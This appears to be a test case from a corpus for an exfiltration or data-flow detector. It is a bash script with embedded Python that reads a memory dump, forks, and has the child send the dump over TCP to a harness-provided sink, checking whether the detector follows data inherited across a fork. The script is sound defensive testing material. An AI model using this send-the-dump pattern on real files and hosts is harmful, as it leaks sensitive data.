#!/bin/bash
# B-fork-mem: a parent reads the dump and forks; only the child has the socket.
# flow: memory is inherited by fork; the child sends what it never read.
# tools: python3
# expect: sent counted port critical
# set: fast
. "$CORPUS/lib.sh"
mkdump
sink tcp
python3 - "$D" "$SINK" "$PORT" <<'END'
import os, socket, sys
dump = open(sys.argv[1], "rb").read()
if os.fork() == 0:
    socket.create_connection((sys.argv[2], int(sys.argv[3]))).sendall(dump)
    os._exit(0)
os.wait()
END
sunk
